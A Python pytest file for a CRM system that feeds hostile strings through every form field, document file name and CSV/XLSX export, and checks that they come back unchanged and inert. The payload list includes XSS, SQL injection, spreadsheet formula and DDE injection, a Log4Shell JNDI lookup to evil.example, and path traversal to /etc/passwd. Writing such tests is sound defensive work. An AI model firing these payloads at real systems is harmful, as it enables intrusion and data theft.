"""Texts that break other programs go through every text field of every form and come back as they were typed, and harmless."""

import csv
import io
from collections.abc import Callable, Mapping
from typing import Any, Final

import pytest
from openpyxl import load_workbook

from crm import (
    change_requests,
    consents,
    contacts,
    customers,
    documents,
    exports,
    fields,
    interactions,
    market,
    products,
    purchases,
    requisites,
    saved_filters,
    stages,
    teams,
    users,
)
from crm.core.errors import Invalid
from crm.customers import Filters
from crm.exports import Form, Wish, records
from tests.cast import DAY, Cast, a_customer, a_document, a_field, a_supply, a_voice
from tests.pages.screen import opened, rows

TEXTS: Final = (
    "<script>alert('x')</script>",
    '"><img src=x onerror=alert(1)>',
    "'; DROP TABLE customers; --",
    "1' OR '1'='1",
    "Robert%'); --",
    "=1+1",
    '=HYPERLINK("http://evil.example","click")',
    "@SUM(A1:A9)",
    "-2+3",
    "+cmd|' /C calc'!A0",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "${jndi:ldap://evil.example/x}",
    "../../../etc/passwd",
    "%s%n%x %(name)s {0} {name}",
    "**bold** [x](javascript:alert(1)) :red[x] `code` $x^2$",
    "null",
    "undefined",
    "NaN",
    "-Infinity",
    "1e309",
    "0x1F",
    "true",
    "Ω≈ç√∫˜µ≤≥÷ ¡™£¢∞§¶",
    "表ポあA鷗ŒéＢ逍Üßªąñ丂㐀𠀀",
    "👩‍👩‍👧‍👦 🇷🇺🇨🇳 👍🏽",
    "الكل في المجمو عة",
    "\u202ereversed\u202c",
    "zero\u200bwidth\u200dand\ufeffmark",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!",
    "a" * 200,
)
"""Written for this test: what other programs take for code, markup, formulas, numbers, nothing, or cannot count."""

Written = Callable[[], str | None]
Writer = Callable[[Cast, str], Written]


def _read(cast: Cast, look: Callable[[Any], Any]) -> Written:
    def again() -> str | None:
        with cast.unit() as u:
            return look(u)  # type: ignore[no-any-return]  # a text of its column

    return again


def _customer(key: str) -> Writer:
    def write(cast: Cast, text: str) -> Written:
        one = a_customer(cast, phones=[], emails=[], **{key: text})
        return _read(cast, lambda u: customers.values(u, one)[key])

    return write


def _own_field(cast: Cast, text: str) -> Written:
    with cast.unit() as u:
        known = [one.key for one in fields.definitions(u)]
    key = known[0] if known else a_field(cast, "Anything").key
    one = a_customer(cast, phones=[], emails=[], **{key: text})
    return _read(cast, lambda u: customers.values(u, one)[key])


def _contact(key: str) -> Writer:
    def write(cast: Cast, text: str) -> Written:
        of = a_customer(cast)
        with cast.unit() as u:
            one = contacts.add(u, of, {"name": "Somebody", key: text}).id
        return _read(cast, lambda u: contacts.one(u, one)[key])

    return write


def _requisites(key: str) -> Writer:
    def write(cast: Cast, text: str) -> Written:
        of = a_customer(cast)
        with cast.unit() as u:
            one = requisites.add(u, of, {"name": "Signed", key: text}).id
        return _read(cast, lambda u: requisites.one(u, one)[key])

    return write


def _interaction(key: str) -> Writer:
    def write(cast: Cast, text: str) -> Written:
        of = a_customer(cast)
        with cast.unit(cast.rep) as u:
            one = interactions.log(u, of, kind="call", **{key: text}).id
        return _read(cast, lambda u: getattr(interactions.one(u, one), key))

    return write


def _proof(cast: Cast, text: str) -> Written:
    of, facts = a_customer(cast), {"purpose": "email", "basis": "consent", "given_on": DAY, "how": "paper"}
    with cast.unit() as u:
        one = consents.record(u, of, **facts, proof=text).id  # type: ignore[arg-type]  # each fits its parameter
    return _read(cast, lambda u: consents.one(u, one)["proof"])


def _document(cast: Cast, text: str) -> Written:
    one = a_document(cast, a_customer(cast), note=text)
    return _read(cast, lambda u: documents.chain(u, one)[0]["note"])


def _supply(key: str) -> Writer:
    def write(cast: Cast, text: str) -> Written:
        of = a_customer(cast)
        a_supply(cast, of, **({"competitor": "Rivals"} | {key: text[: market.LENGTHS[key]]}))
        return _read(cast, lambda u: market.supplies(u, of)[0][key])

    return write


def _voice(cast: Cast, text: str) -> Written:
    of = a_customer(cast)
    a_voice(cast, of, text)
    return _read(cast, lambda u: market.voices(u, of)[0]["text"])


def _request(cast: Cast, text: str) -> Written:
    key = a_customer(cast, "mate")
    with cast.unit(cast.rep) as u:
        change_requests.ask(u, key, text)
    return _read(cast, lambda u: change_requests.open_of(u, key)[0]["text"])


def _purchase(cast: Cast, text: str) -> Written:
    key = a_customer(cast)
    with cast.unit() as u:
        product = products.create(u, {"code": f"A{key}", "name": "Lamp", "price": "1", "currency": "RUB"}).id
        one = purchases.record(u, key, [purchases.Line(product)], note=text).id
    return _read(cast, lambda u: purchases.one(u, one).note)


def _product(cast: Cast, text: str) -> Written:
    with cast.unit() as u:
        code = f"A{products.count(u)}"
        one = products.create(u, {"code": code, "name": text, "price": "1", "currency": "RUB"}).id
    return _read(cast, lambda u: products.one(u, one).name)


def _filter(cast: Cast, text: str) -> Written:
    with cast.unit(cast.rep) as u:
        one = saved_filters.save(u, text[:60], {"stage": "lost"}).id

    def again() -> str | None:
        with cast.unit(cast.rep) as u:
            return str(u.get(saved_filters.SavedFilter, one).name)

    return again


def _team(cast: Cast, text: str) -> Written:
    with cast.unit() as u:
        one = teams.create(u, text[:60]).id
    return _read(cast, lambda u: teams.directory(u)[one])


def _person(cast: Cast, text: str) -> Written:
    with cast.unit() as u:
        one = users.create(
            u, {"username": f"somebody{users.count(u)}", "name": text[:60], "roles": ["analyst"]}
        ).user.id
    return _read(cast, lambda u: users.directory(u)[one])


def _strategy(key: str) -> Writer:
    def write(cast: Cast, text: str) -> Written:
        with cast.unit(cast.leader) as u:
            seen = stages.strategies(u).get("lost", {}).get("version", 0)
            stages.set_strategy(u, "lost", **{"strategy": "", "next_step": ""} | {key: text}, seen=seen)
        return _read(cast, lambda u: stages.strategies(u)["lost"][key])

    return write


def _stage_reason(cast: Cast, text: str) -> Written:
    key = a_customer(cast)
    with cast.unit() as u:
        customers.edit(u, key, {"stage": "lost"}, seen=1, reason=text)
    return _read(cast, lambda u: stages.steps(u, key)[0]["reason"])


WRITERS: Final[Mapping[str, Writer]] = {
    **{
        f"customers.{key}": _customer(key)
        for key in ("name", *(one for one in customers.TEXTS if one != "external_number"), "external_number")
    },
    "own field": _own_field,
    **{f"contacts.{key}": _contact(key) for key in ("name", "position", "department", "note")},
    **{f"requisites.{key}": _requisites(key) for key in ("name", "address")},
    **{f"interactions.{key}": _interaction(key) for key in ("topic", "note")},
    **{f"stages.{key}": _strategy(key) for key in ("strategy", "next_step")},
    "stages.reason": _stage_reason,
    "consents.proof": _proof,
    "documents.note": _document,
    **{f"supplies.{key}": _supply(key) for key in ("competitor", "product", "source")},
    "voices.text": _voice,
    "change_requests.text": _request,
    "purchases.note": _purchase,
    "products.name": _product,
    "saved_filters.name": _filter,
    "teams.name": _team,
    "users.name": _person,
}


TOO_LONG: Final = {"a" * 200: {"contacts.position", "contacts.department", "products.name", "supplies.competitor"}}
"""What is refused, and in which fields; everything else is taken."""


@pytest.mark.parametrize("field", WRITERS)
def test_a_text_comes_back_from_every_field_as_it_was_typed(cast, field):
    wrong = {}
    for text in TEXTS:
        try:
            again: Any = WRITERS[field](cast, text)()
        except Invalid as refused:
            again = refused
        if again not in {text, text[:60]} and field not in TOO_LONG.get(text, ()):
            wrong[text] = again
    assert wrong == {}


NEVER_IN_A_NAME: Final = set("/\\\u202e\u202c\u200b\ufeff\r\n\t\x00")
CHANGED: Final = {
    "../../../etc/passwd": "passwd",
    "<script>alert('x')</script>": "script>",
    '=HYPERLINK("http://evil.example","click")': 'evil.example","click")',
    "+cmd|' /C calc'!A0": "C calc'!A0",
    "${jndi:ldap://evil.example/x}": "x}",
    "\u202ereversed\u202c": "reversed",
    "zero\u200bwidth\u200dand\ufeffmark": "zerowidth\u200dandmark",
    "a" * 200: "a" * 120,
}
"""Names of files that become others: a folder, a sign that turns the line round, one that nobody sees, too many."""


@pytest.mark.parametrize("text", TEXTS)
def test_a_files_name_is_kept_as_it_was_typed_where_that_is_harmless(cast, text):
    key = a_customer(cast)
    one = a_document(cast, key, name=text)
    with cast.unit() as u:
        name = documents.chain(u, one)[0]["name"]
    assert not set(name) & NEVER_IN_A_NAME
    assert name == CHANGED.get(text, text)
    at = opened("customer", cast.keeper, id=key, tab="documents")
    assert [row[0] for row in rows(at, "documents")] == [name]


def _everybody(cast: Cast) -> None:
    for text in TEXTS:
        a_customer(cast, phones=[], emails=[], name=text, note=text, city=text)


def _file(cast: Cast, form: Form) -> bytes:
    with cast.unit(cast.keeper) as u:
        token, count = exports.write_now(u, Wish(Filters(), form, "en"))
    assert count == len(TEXTS)
    return records.path_of(token).read_bytes()


STARTS_A_FORMULA: Final = tuple("=+-@\t\r")


def test_in_a_text_file_no_cell_is_a_formula_and_every_text_is_there(cast):
    _everybody(cast)
    lines = list(csv.reader(io.StringIO(_file(cast, Form.CSV).decode("utf-8-sig"))))
    cells = {cell for line in lines[1:] for cell in line}
    assert not [cell for cell in cells if cell.startswith(STARTS_A_FORMULA)]
    assert not [text for text in TEXTS if text not in cells and f"'{text}" not in cells]


def test_in_a_workbook_every_cell_is_text_and_none_a_formula(cast):
    _everybody(cast)
    sheet = load_workbook(io.BytesIO(_file(cast, Form.XLSX))).active
    cells = [cell for line in sheet.iter_rows(min_row=2) for cell in line]
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    there = {str(cell.value) for cell in cells}
    assert not [text for text in TEXTS if text not in there and f"'{text}" not in there]


def test_the_list_and_the_look_up_show_them_as_they_were_typed(cast):
    _everybody(cast)
    shown = {row[0] for row in rows(opened("customers", cast.keeper), "customers")}
    assert not [text for text in TEXTS if text not in shown]
    with cast.unit(cast.keeper) as u:
        for text in TEXTS:
            assert isinstance(customers.look_up(u, text), list | tuple)
